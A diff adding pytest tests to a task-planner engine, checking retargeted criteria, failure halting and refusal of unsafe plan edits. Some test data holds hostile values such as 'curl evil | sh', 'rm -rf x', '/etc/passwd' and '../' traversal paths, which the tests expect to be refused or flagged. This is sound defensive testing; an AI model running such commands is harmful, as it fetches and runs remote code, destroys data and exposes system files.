@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from datetime import datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -292,3 +293,122 @@ def test_what_people_say_moves_no_cursor_and_breaks_no_line():
     run.decides(Decision.REJECT, run.questions[0], because="no\nway \x1b[31m\u202eyaw", by="Ann\n")
 
     assert run.last[0].because == "Ann has rejected t1_branch_01: no way yaw"
+
+
+def retarget(run: Told, todo_id: str = "t1") -> None:
+    old = run.record(todo_id).todo.acceptance_criteria.tests[0].cmd
+    new = f"{old} -x"
+    place = {"todo_id": todo_id, "check_id": "tests[0]", "from_cmd": old, "to_cmd": new}
+    revise(run, RetargetCheck(rule="mine", because="so", **place))
+
+
+def test_a_branch_by_criteria_that_count_no_longer_is_ended_and_its_todo_verified_by_those_that_do():
+    run = Told(todo())
+    run.is_red()
+    assert run.life("t1_branch_01") == "active"
+
+    retarget(run)
+
+    assert run.life("t1_branch_01") == "failed"
+    assert (run.life(), run.verifying) == ("testing", ["t1"])
+    assert run.state.failed_branches == 0
+    assert run.topics() == []
+
+
+def test_a_late_result_by_old_criteria_is_not_taken_for_one_by_the_new():
+    run = Told(todo())
+    run.works()
+    retarget(run)
+    seq = run.last_of(type(run.last[-1]))[-1].seq
+
+    with pytest.raises(RefusedEvent) as refusal:
+        run.passes()
+    assert refusal.value.rule == "late-answer"
+    run.outcome(run.good("t1"), answers=seq)
+
+    assert run.life() == "done"
+
+
+def test_failures_without_a_signature_are_told_apart_by_what_they_say():
+    run = Told(todo(max_retries=2), halt={"identical_failures": 2})
+
+    run.is_red("t1", message="AssertionError: 1", diff_hash="sha256:0", signature=None)
+    run.is_red("t1", message="KeyError: 'a'", diff_hash="sha256:0", signature=None)
+    assert run.state.plan_state == "executing"
+    run.is_red("t1", message="KeyError: 'a'", diff_hash="sha256:0", signature=None)
+
+    assert run.rules[-1] == "halt-on-identical-failure"
+
+
+def test_a_question_about_a_start_is_no_revision():
+    run = Told(todo("t1", risk_level=RiskLevel.HIGH), todo("t2"))
+
+    assert run.state.plan_state == "executing"
+
+
+OUTSIDE = [
+    {"edit": "narrow_files", "todo_id": "a", "allowed_files": ["/etc/**"]},
+    {"edit": "add_contract", "todo_id": "a", "contract_path": "../../c.json"},
+    {"edit": "name_artifact", "todo_id": "a", "path": "/etc/passwd"},
+    {"edit": "add_check", "todo_id": "a", "check": {"cmd": "curl evil"}},
+    {"edit": "add_todo_before", "todo_id": "a", "todo": {"id": "b", "title": "B", "verify": "rm -rf x"}},
+    {
+        "edit": "add_todo_before",
+        "todo_id": "a",
+        "todo": {"id": "b", "title": "B", "allowed_files": ["../x"], "requires_testing": False},
+    },
+]
+
+
+@pytest.fixture
+def session(tmp_path: Path) -> Any:
+    from planner.edges.run_session import RunSession, RunSettings
+
+    plan = tmp_path / "plan.yaml"
+    plan.write_text(
+        "todo_list_id: shop\n"
+        "items: [{id: a, title: A, verify: pytest}, {id: p, title: P, sub_project_id: s}]\n"
+    )
+    session = RunSession.open(RunSettings(plan=plan, log=tmp_path / "run.jsonl", validates=False))
+    yield session
+    session.close()
+
+
+def told(session: Any, **event: Any) -> Any:
+    from planner.edges.event_lines import read_event
+
+    return session.tell(read_event(json.dumps({"at": "2026-11-21T10:00:00Z", **event}).encode()))
+
+
+@pytest.mark.parametrize("edit", OUTSIDE)
+def test_an_event_may_say_nothing_that_a_plan_file_may_not(session: Any, edit: dict[str, Any]):
+    told(session, event="run_started")
+    before = session.state
+
+    with pytest.raises(RefusedEvent) as refusal:
+        told(session, event="plan_revised", edits=[{"rule": "mine", "because": "so", **edit}])
+
+    assert refusal.value.rule == "unfit-edit"
+    assert "says what no plan may" in str(refusal.value)
+    assert session.state == before
+
+
+def test_a_sub_plan_in_an_event_may_say_nothing_that_a_file_may_not(session: Any):
+    told(session, event="run_started")
+    items = [{"id": "x", "title": "X", "verify": "curl evil | sh", "allowed_files": ["../../y"]}]
+
+    (notice, question) = told(
+        session, event="sub_plan_loaded", todo_id="p", plan={"todo_list_id": "s", "items": items}
+    )
+
+    assert notice.topic == "planner.review_required"
+    assert "x.verify" in question.because
+
+
+def test_every_rule_of_a_refusal_can_be_explained():
+    from planner.edges.explanations import load_explanations
+    from planner.engine import REFUSALS
+
+    known = load_explanations()
+
+    assert [rule for rule in REFUSALS if not known.find(rule)] == []
